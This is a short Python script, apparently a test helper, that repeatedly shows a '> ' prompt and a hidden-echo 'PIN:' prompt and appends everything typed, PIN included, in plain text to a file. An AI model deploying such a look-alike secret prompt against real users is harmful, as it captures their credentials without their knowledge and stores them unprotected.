"""Asks for a secret, as login programs do: the prompt looks like any other, what is typed is not shown."""

import getpass
import sys

with open(sys.argv[1], "a", buffering=1) as got:  # noqa: PTH123
    while True:
        got.write(input("> ") + "\n")
        got.write("secret:" + getpass.getpass("PIN: ") + "\n")
